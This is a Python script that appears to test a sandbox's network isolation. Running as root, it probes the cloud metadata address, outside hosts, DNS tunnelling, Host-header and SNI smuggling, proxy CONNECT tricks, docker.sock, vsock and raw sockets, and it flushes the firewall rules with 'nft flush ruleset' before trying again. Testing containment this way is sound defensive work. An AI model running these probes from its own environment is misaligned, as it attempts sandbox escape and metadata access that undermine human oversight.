"""Every way out of the sandbox but the gateway's, as root in the sandbox, with the guest's own network turned inside out.

  way_out_attack.py NEIGHBOUR ABSTRACT [full]     the address and name of things that must stay out of reach

"REACHED ..." for each that is not.
"""
import concurrent.futures
import faulthandler
import os
import socket
import ssl
import struct
import subprocess
import sys

from hostile_port import say

FULL = sys.argv[3:] == ["full"]
SECONDS = 10 if FULL else 4
METADATA, STRANGER = "169.254.169.254", "93.184.215.14"


def is_dns_refusal(answer):
    """The guest's own resolver says REFUSED (RFC 1035 section 4.1.1), by UDP or TCP."""
    return any(answer[at:at + 2] == b"\0\7" and answer[at + 3] & 15 == 5 for at in (0, 2) if len(answer) > at + 3)


pool = concurrent.futures.ThreadPoolExecutor(16)
running = []


def attempt(what, action):
    running.append(pool.submit(judge, what, action))


def wait_for_attempts(what):
    """All of them at once: most wait for an answer that must not come."""
    for attempt_ in running:
        attempt_.result()
    say(what, "%d attempts" % len(running))
    running.clear()


def judge(what, action):
    try:
        answer = action()
    except (OSError, ValueError):
        return
    refused = answer.startswith((b"HTTP/1.1 403", b"HTTP/1.1 400")) if answer else True
    if not refused and b"denied" not in answer and not is_dns_refusal(answer):
        say("REACHED " + what, answer[:200])


def tcp(family, address, port, request=b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(SECONDS)
        s.connect((address, port))
        s.sendall(request)
        return s.recv(4096)


def through_proxy(address, request):
    """What a CONNECT leads to is judged by what is then asked for."""
    with socket.create_connection((address, 3128), SECONDS) as s:
        s.sendall(request)
        answer = s.recv(4096)
        if answer.startswith(b"HTTP/1.1 200 Connection established"):
            s.sendall(b"GET / HTTP/1.1\r\nHost: " + request.split()[1].split(b":")[0] + b"\r\n\r\n")
            answer = s.recv(4096)
        return answer


def udp(address, port, data):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.connect((address, port))
        s.send(data)
        return s.recv(4096)


def question(name, kind):
    labels = b"".join(bytes([len(part)]) + part for part in name.split(b"."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def raw(protocol, address, payload):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as s:
        s.settimeout(1)
        s.sendto(payload, (address, 0))
        return s.recv(4096) if protocol != socket.IPPROTO_ICMP else None


def tls_with_another_name(address, sni):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with socket.create_connection((address, 443), SECONDS) as s:
        with context.wrap_socket(s, server_hostname=sni) as t:
            t.sendall(b"GET / HTTP/1.1\r\nHost: " + sni.encode() + b"\r\n\r\n")
            return t.recv(4096)


def destinations():
    more = ("172.17.0.1", "192.168.1.1", "100.64.0.1", "8.8.8.8", "0.0.0.0", "224.0.0.1", "255.255.255.255")
    for address in (METADATA, STRANGER, "10.0.0.1", sys.argv[1]) + (more if FULL else ()):
        for port in (80, 53):
            attempt(f"tcp {address}:{port}", lambda a=address, p=port: tcp(socket.AF_INET, a, p))
        attempt(f"udp {address}", lambda a=address: udp(a, 53, question(b"stolen.tunnel.invalid", 16)))
        dns = question(b"stolen.tunnel.invalid", 16)
        attempt(f"dns over tcp {address}",
                lambda a=address: tcp(socket.AF_INET, a, 53, struct.pack(">H", len(dns)) + dns))
    for address in ("::ffff:" + METADATA, "::ffff:" + STRANGER, "2001:4860:4860::8888", "fd00::1", "fe80::1"):
        attempt(f"tcp {address}", lambda a=address: tcp(socket.AF_INET6, a, 80))
    for name in ("host.docker.internal", "metadata.google.internal", "gateway.docker.internal"):
        attempt(f"name {name}", lambda n=name: tcp(socket.AF_INET, socket.gethostbyname(n), 80))
    wait_for_attempts("destinations")


def other_names():
    """`allowed.test` may be spoken to; it must not be the way to anything else."""
    allowed = socket.gethostbyname("allowed.test")
    attempt("another Host", lambda: tcp(socket.AF_INET, allowed, 80, b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n"))
    attempt("two Hosts", lambda: tcp(socket.AF_INET, allowed, 80,
                                     b"GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: other.test\r\n\r\n"))
    attempt("another absolute form", lambda: tcp(
        socket.AF_INET, allowed, 80, b"GET http://other.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n"))
    attempt("a host with a line end", lambda: tcp(
        socket.AF_INET, allowed, 80, b"GET / HTTP/1.1\r\nHost: allowed.test\rother.test\r\n\r\n"))
    attempt("another SNI", lambda: tls_with_another_name(allowed, "other.test"))
    proxy = socket.gethostbyname("gateway.docker.internal")
    for line in (b"CONNECT other.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
                 b"CONNECT " + METADATA.encode() + b":80 HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
                 b"GET http://" + METADATA.encode() + b"/latest/meta-data/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
                 b"GET http://[::ffff:a9fe:a9fe]/ HTTP/1.1\r\nHost: x\r\n\r\n"):
        attempt("the proxy: " + line[:30].decode(), lambda q=line: through_proxy(proxy, q))
    wait_for_attempts("other names")


def sockets():
    attempt("vsock", lambda: tcp_vsock())
    for address in ("\0" + sys.argv[2], "\0/run/docker.sock"):
        def abstract(a=address):
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.settimeout(5)
                s.connect(a)
                return b"connected"
        attempt("abstract socket " + address[1:], abstract)
    echo = struct.pack(">BBHHH", 8, 0, 0xf7ff, 0, 0)
    addresses = [STRANGER, METADATA]
    own = subprocess.run(["ip", "-4", "-o", "addr"], capture_output=True, text=True, check=True).stdout
    if f" {sys.argv[1]}/" not in own:  # there is no network between sandboxes, so they may have the same one
        addresses.append(sys.argv[1])
    for address in addresses:
        attempt("ping " + address, lambda a=address: raw(socket.IPPROTO_ICMP, a, echo))
        attempt("raw " + address, lambda a=address: raw(253, a, b"stolen"))
    for device in os.listdir("/sys/class/net"):
        def packet(d=device):
            with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as s:
                s.bind((d, 0))
                s.send(b"\xff" * 6 + b"\x02" * 6 + b"\x08\x00" + b"stolen" * 12)
        attempt("packets on " + device, packet)
    wait_for_attempts("sockets")


def tcp_vsock():
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
        s.settimeout(5)
        s.connect((2, 22))
        return b"connected"


def without_rules():
    """Root takes the guest's own redirection away, and routes as it likes."""
    for command in ("nft flush ruleset", "ip addr add 10.0.0.2/8 dev sbx0", "ip -6 addr add fd00::2/64 dev sbx0 nodad",
                    "ip -6 route add default dev sbx0", "ip link set sbx0 up",
                    "sysctl -qw net.ipv6.conf.all.disable_ipv6=0"):
        subprocess.run(command.split(), stderr=subprocess.DEVNULL, check=False)
    global SECONDS
    SECONDS = 1
    for address in (METADATA, STRANGER, "10.0.0.1", sys.argv[1]):
        attempt(f"without rules {address}", lambda a=address: tcp(socket.AF_INET, a, 80))
    attempt("without rules, IPv6", lambda: tcp(socket.AF_INET6, "2001:4860:4860::8888", 80))
    wait_for_attempts("without rules")


faulthandler.dump_traceback_later(600, exit=True)
destinations()
other_names()
sockets()
without_rules()
say("done")
